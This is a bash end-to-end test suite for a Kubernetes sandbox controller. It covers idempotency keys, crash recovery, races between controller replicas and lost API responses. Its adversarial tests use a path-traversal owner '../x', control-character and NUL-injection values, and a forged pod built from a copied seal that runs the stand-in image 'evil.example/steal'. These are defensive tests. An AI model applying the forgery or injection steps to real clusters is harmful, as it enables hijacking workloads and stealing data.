#!/usr/bin/env bash
# End-to-end: every row of the contract's idempotency table (section 5), proven
# on a real control plane, including the adversarial cases.
. "$(dirname "$0")/lib.sh"

IMG=registry.local/agent:1.0
DIGEST_BIN=${SBX_DIGEST_BIN:-$BUILD_DIR/sbx-digest}

setup() {
  cluster_up
  grant_controller_rbac
  new_namespace team-a
  new_namespace team-b
}

# Starts the shared controller for tests that do not manage their own.
with_controller() { controller_start "main" "$@"; MAIN_CTL=$CTL_PID; }
stop_controller() { controller_stop "$MAIN_CTL"; }

pod_of() { jp "$1" sandbox "$2" '{.status.podName}'; }
bound_reason() { jp "$1" sandbox "$2" '{.status.conditions[?(@.type=="Bound")].reason}'; }

test_adversarial_cases() {
  with_controller
  # alice and bob with one key; one owner in two namespaces; the length-prefix pair.
  sandbox team-a alice $IMG task-42 alice >/dev/null
  sandbox team-a bob $IMG task-42 bob >/dev/null
  sandbox team-b alice-b $IMG task-42 alice >/dev/null
  sandbox team-a ab-cd $IMG cd ab >/dev/null
  sandbox team-a a-bcd $IMG bcd a >/dev/null
  sandbox team-a unicode $IMG "任务-42" alice >/dev/null
  local k255 k256
  k255=$(printf 'k%.0s' $(seq 1 255)); k256=$(printf 'k%.0s' $(seq 1 256))
  sandbox team-a key255 $IMG "$k255" alice >/dev/null || fail "255-byte key refused"
  local out
  out=$(sandbox team-a key256 $IMG "$k256" alice) && fail "256-byte key accepted"
  expect_match "$out" "idempotencyKey" "256-byte key message names the field"
  # 85 three-byte characters are 255 bytes; 86 are 258 bytes but only 86 characters.
  local u85 u86
  u85=$(printf '任%.0s' $(seq 1 85)); u86=$(printf '任%.0s' $(seq 1 86))
  sandbox team-a key-u85 $IMG "$u85" alice >/dev/null || fail "255-byte Unicode key refused"
  out=$(sandbox team-a key-u86 $IMG "$u86" alice) && fail "258-byte Unicode key accepted"
  expect_match "$out" "255 bytes" "byte-length message"
  out=$(sandbox team-a key-ctl $IMG $'bad\x01key' alice) && fail "control character in key accepted"
  # cJSON would cut a string at NUL, so two specs could share a fingerprint: the API refuses NUL.
  out=$(printf '{"apiVersion":"sandbox.dev/v1alpha1","kind":"Sandbox","metadata":{"name":"nul","namespace":"team-a"},"spec":{"image":"a\\u0000b"}}' |
    kubectl apply -f - 2>&1) && fail "NUL in image accepted"
  expect_match "$out" "spec.image" "NUL refusal names the field"
  out=$(sandbox team-a owner-empty $IMG k "") && fail "owner \"\" accepted"
  out=$(sandbox team-a owner-dotdot $IMG k "../x") && fail "owner ../x accepted"
  for s in alice bob ab-cd a-bcd unicode key255 key-u85; do
    wait_for 30 bound team-a $s || fail "$s not bound"
  done
  wait_for 30 bound team-b alice-b || fail "alice-b not bound"
  expect_eq "$(pod_of team-a alice)" sbx-a2c8db0f290b9f479603660ab6f7894e "alice (vector)"
  expect_eq "$(pod_of team-a bob)" sbx-2b59077280f1f6e9e63c027f82b66e2a "bob (vector)"
  expect_eq "$(pod_of team-b alice-b)" sbx-ababc30c15cd60a12eea593fb09a513d "alice in team-b (vector)"
  expect_eq "$(pod_of team-a ab-cd)" sbx-5a2b84f5cc6fbd0a15608105dec68bb0 "(ab,cd) (vector)"
  expect_eq "$(pod_of team-a a-bcd)" sbx-6de85a194475da9b18d7f5ca080a7ab5 "(a,bcd) (vector)"
  expect_eq "$(pod_of team-a unicode)" sbx-1d3da7f1057bfe7576bfe087d3f71c21 "Unicode key (vector)"
  # Each pod mounts only its own owner's folders.
  expect_eq "$(kubectl get pod -n team-a sbx-2b59077280f1f6e9e63c027f82b66e2a -o jsonpath='{.spec.containers[0].volumeMounts[*].subPath}')" \
    "bob/workspace bob/claude bob/codex bob/gemini" "bob's mounts"

  # The same key with another image: rejected, no pod, the holder named.
  local before
  before=$(pod_count team-a)
  sandbox team-a alice-v2 registry.local/agent:2.0 task-42 alice >/dev/null
  wait_for 30 has_reason team-a alice-v2 IdempotencyKeyConflict || fail "no IdempotencyKeyConflict"
  expect_eq "$(jp team-a sandbox alice-v2 '{.status.phase}')" Rejected
  expect_eq "$(pod_of team-a alice-v2)" "" "a rejected Sandbox has no pod"
  expect_match "$(jp team-a sandbox alice-v2 '{.status.conditions[?(@.type=="Bound")].message}')" "Sandbox alice " "message names the holder"
  wait_for 10 bash -c "kubectl get events -n team-a --field-selector involvedObject.name=alice-v2,reason=IdempotencyKeyConflict,type=Warning -o name | grep -q ."
  expect_ok bash -c "kubectl get events -n team-a --field-selector involvedObject.name=alice-v2,reason=IdempotencyKeyConflict,type=Warning -o name | grep -q ."
  expect_eq "$(pod_count team-a)" "$before" "no pod for the conflicting Sandbox"

  # No owner: the spec scopes the key, so two specs give two pods.
  sandbox team-a anon-1 $IMG task-42 >/dev/null
  sandbox team-a anon-2 registry.local/agent:2.0 task-42 >/dev/null
  wait_for 30 bound team-a anon-1 || fail "anon-1 not bound"
  wait_for 30 bound team-a anon-2 || fail "anon-2 not bound"
  expect_eq "$(pod_of team-a anon-1)" sbx-b8979663fcdcc461c1779ad1a039f0a1 "no owner (vector)"
  expect_eq "$(pod_of team-a anon-2)" sbx-e0fb94f50da6ae5d69f48d3a0ca62126 "no owner, other spec (vector)"
  stop_controller
}

test_forged_pod_is_not_adopted() {
  new_namespace forge-src
  new_namespace forge
  with_controller
  # A genuine pod elsewhere gives the forger a real seal to copy.
  sandbox forge-src real $IMG task-9 alice >/dev/null
  wait_for 30 bound forge-src real || fail "real not bound"
  local real_pod seal
  real_pod=$(pod_of forge-src real)
  seal=$(kubectl get pod -n forge-src "$real_pod" -o jsonpath='{.metadata.annotations.sandbox\.dev/seal}')
  stop_controller
  # With the controller down, the victim's Sandbox exists and mallory, who may
  # create pods in the namespace, builds the exact pod the controller would.
  sandbox forge victim $IMG task-9 alice >/dev/null
  local uid spec d fp
  uid=$(jp forge sandbox victim '{.metadata.uid}')
  spec=$(kubectl get sandbox -n forge victim -o jsonpath='{.spec}')
  read -r d fp < <("$DIGEST_BIN" forge "$uid" "$spec")
  kubectl create role pod-writer -n forge --verb=create,get,list --resource=pods >/dev/null
  kubectl create rolebinding mallory -n forge --role=pod-writer --user=mallory >/dev/null
  local mk
  mk=$(user_kubeconfig mallory)
  KUBECONFIG=$mk kubectl apply -f - >/dev/null <<YAML || fail "mallory could not create the forged pod"
apiVersion: v1
kind: Pod
metadata:
  name: sbx-$d
  namespace: forge
  labels: {sandbox.dev/scope-digest: "$d", app.kubernetes.io/managed-by: sandbox-controller, app.kubernetes.io/name: sandbox}
  annotations:
    sandbox.dev/workspace-owner: alice
    sandbox.dev/spec-fingerprint: "$fp"
    sandbox.dev/claimed-at: "$(date -u +%Y-%m-%dT%H:%M:%SZ)"
    sandbox.dev/seal: "$seal"
  ownerReferences:
  - {apiVersion: sandbox.dev/v1alpha1, kind: Sandbox, name: victim, uid: "$uid", controller: true}
spec:
  containers:
  - {name: sandbox, image: evil.example/steal:latest}
YAML
  with_controller
  wait_for 30 has_reason forge victim ForeignPodConflict || fail "forged pod not reported as ForeignPodConflict"
  expect_eq "$(jp forge sandbox victim '{.status.podName}')" "" "nothing of the forged pod in status (podName)"
  expect_eq "$(jp forge sandbox victim '{.status.podUID}')" "" "nothing of the forged pod in status (podUID)"
  expect_eq "$(jp forge sandbox victim '{.status.claimedAt}')" "" "nothing of the forged pod in status (claimedAt)"
  expect_eq "$(jp forge sandbox victim '{.status.binding}')" "" "not bound"
  expect_ok bash -c "kubectl get events -n forge --field-selector involvedObject.name=victim,reason=ForeignPodRejected -o name | grep -q ."
  # Once the forgery is gone, the Sandbox gets its real pod.
  delete_pod forge "sbx-$d" 60 || fail "the forged pod was not deleted"
  wait_for 60 bound forge victim || fail "victim not bound after the forged pod was removed"
  expect_eq "$(kubectl get pod -n forge "sbx-$d" -o jsonpath='{.spec.containers[0].image}')" "$IMG" "the real pod"
  stop_controller
}

test_bound_pod_deleted_out_of_band() {
  new_namespace oob
  with_controller
  sandbox oob s1 $IMG oob-key alice >/dev/null
  kubectl wait --for=condition=Ready sandbox/s1 -n oob --timeout=60s >/dev/null || fail "s1 never Ready"
  local p
  p=$(pod_of oob s1)
  delete_pod oob "$p" 60 || fail "the pod was not deleted"
  wait_for 30 bash -c "[ \"\$(kubectl get sbx -n oob s1 -o jsonpath='{.status.phase}')\" = Failed ]" || fail "phase not Failed"
  expect_eq "$(jp oob sandbox s1 '{.status.conditions[?(@.type=="Ready")].reason}')" PodMissing
  sleep 3
  expect_eq "$(pod_count oob)" 0 "the pod was silently re-created"
  stop_controller
}

# Kills the controller with SIGKILL at POINT, restarts it, and checks that the
# Sandboxes end up bound to exactly one pod.
crash_at() {
  local point=$1 ns=$2
  new_namespace "$ns"
  rm -f "$E2E_DIR/once-$point"
  SBX_FAULT_POINTS=$point SBX_FAULT_ONCE_FILE="$E2E_DIR/once-$point" controller_start "crash-$point"
  local pid=$CTL_PID
  sandbox "$ns" first $IMG crash-key alice >/dev/null
  sandbox "$ns" second $IMG crash-key alice >/dev/null
  sandbox "$ns" third $IMG other-key alice >/dev/null
  if ! wait_dead "$pid" 30; then
    fail "$point: fault point never reached"
    controller_stop "$pid"
  fi
  [ -f "$E2E_DIR/once-$point" ] || fail "$point: the controller died without reaching the point"
  controller_start "after-$point"
  local pid2=$CTL_PID
  for s in first second third; do wait_for 40 bound "$ns" $s || fail "$point: $s not bound after restart"; done
  expect_eq "$(pod_count "$ns")" 2 "$point: one pod per scope and key"
  expect_eq "$(pod_of "$ns" second)" "$(pod_of "$ns" first)" "$point: same pod"
  expect_eq "$(printf '%s\n' "$(jp "$ns" sandbox first '{.status.binding}')" "$(jp "$ns" sandbox second '{.status.binding}')" | sort | tr '\n' ' ')" \
    "Adopted Created " "$point: one Created, one Adopted"
  controller_stop "$pid2"
}

test_crash_after_pod_create() { crash_at after-pod-create crash-1; }
test_crash_before_status_write() { crash_at before-status-write crash-2; }
test_crash_after_status_write() { crash_at after-status-write crash-3; }
test_crash_after_adopt() { crash_at after-adopt crash-4; }
test_crash_before_pod_create() { crash_at before-pod-create crash-5; }

test_key_lifetime_and_racing_expiry() {
  new_namespace ttl
  controller_start ttl-a --key-lifetime 10; local a=$CTL_PID
  controller_start ttl-b --key-lifetime 10; local b=$CTL_PID
  sandbox ttl old $IMG ttl-key alice >/dev/null
  wait_for 30 bound ttl old || fail "old not bound"
  local p0
  p0=$(pod_of ttl old)
  sandbox ttl within $IMG ttl-key alice >/dev/null
  wait_for 30 bound ttl within || fail "within not bound"
  expect_eq "$(pod_of ttl within)" "$p0" "within the lifetime: the same pod"
  sleep 11
  sandbox ttl new1 $IMG ttl-key alice >/dev/null & local j1=$!
  sandbox ttl new2 $IMG ttl-key alice >/dev/null & local j2=$!
  wait $j1 $j2
  wait_for 30 bound ttl new1 || fail "new1 not bound"
  wait_for 30 bound ttl new2 || fail "new2 not bound"
  expect_eq "$(pod_of ttl new1)" "$p0-1" "after expiry: generation 1"
  expect_eq "$(pod_of ttl new2)" "$p0-1" "racing controllers agree on one pod"
  expect_eq "$(pod_count ttl)" 2 "two pods in all"
  expect_match "$(jp ttl sandbox new1 '{.status.keyExpiresAt}')" '^20[0-9-]+T' "keyExpiresAt set"
  controller_stop "$a"; controller_stop "$b"
}

test_racing_replicas_500() {
  new_namespace race
  controller_start race-a --workers 4; local a=$CTL_PID
  controller_start race-b --workers 4; local b=$CTL_PID
  local f="$E2E_DIR/race" i
  mkdir -p "$f"
  for i in $(seq 0 499); do
    local pair=$((i % 100))
    cat >"$f/$((i % 10)).yaml.part.$i" <<YAML
---
apiVersion: sandbox.dev/v1alpha1
kind: Sandbox
metadata: {name: s-$i, namespace: race}
spec: {image: $IMG, idempotencyKey: key-$pair, workspaceOwner: owner-$((pair % 7))}
YAML
  done
  for i in $(seq 0 9); do cat "$f/$i.yaml.part."* >"$f/batch-$i.yaml"; done
  local t0=$SECONDS
  local jobs=()
  for i in $(seq 0 9); do kubectl create -f "$f/batch-$i.yaml" >/dev/null 2>&1 & jobs+=($!); done
  wait "${jobs[@]}"
  wait_for 300 bound_count_is race 500 ||
    fail "not all 500 bound: $(count_bound race)"
  say "  500 Sandboxes bound in $((SECONDS - t0)) s by two racing controllers"
  expect_eq "$(kubectl get sbx -n race --no-headers | wc -l)" 500 "Sandboxes"
  expect_eq "$(pod_count race)" 100 "exactly one pod per (owner, key)"
  expect_eq "$(kubectl get sbx -n race -o jsonpath='{range .items[*]}{.status.podName}{"\n"}{end}' | sort -u | wc -l)" 100 "distinct pods reported"
  expect_eq "$(kubectl get sbx -n race -o jsonpath='{range .items[*]}{.status.binding}{"\n"}{end}' | grep -c Created)" 100 "one Created per pod"
  expect_eq "$(kubectl get sbx -n race -o jsonpath='{range .items[*]}{.status.conditions[?(@.type=="Bound")].reason}{"\n"}{end}' | grep -vc -E '^Pod(Created|Adopted)$')" 0 "nothing stuck or rejected"
  controller_stop "$a"; controller_stop "$b"
}

test_lost_responses() {
  new_namespace lossy
  faultproxy_start 0.2 7 || return
  SBX_E2E_APISERVER_PORT=$PROXY_PORT controller_start lossy
  local c=$CTL_PID
  local i jobs=()
  for i in $(seq 0 59); do
    sandbox lossy l-$i $IMG "lk-$((i % 15))" "owner-$((i % 15 % 4))" >/dev/null & jobs+=($!)
    if [ $((i % 10)) -eq 9 ]; then wait "${jobs[@]}"; jobs=(); fi
  done
  wait_for 240 bound_count_is lossy 60 ||
    fail "not all 60 bound under lost responses: $(count_bound lossy)"
  expect_eq "$(pod_count lossy)" 15 "no duplicate pods"
  expect_eq "$(kubectl get sbx -n lossy -o jsonpath='{range .items[*]}{.status.binding}{"\n"}{end}' | grep -c Created)" 15 "one Created per pod"
  local cuts
  cuts=$(grep -c "cut connection" "$E2E_DIR/proxy.log")
  say "  the proxy cut $cuts connections after the server had answered"
  [ "$cuts" -gt 10 ] || fail "too few responses lost ($cuts) for the test to mean anything"
  controller_stop "$c"
  kill "$PROXY_PID" 2>/dev/null
}

setup
e2e_main
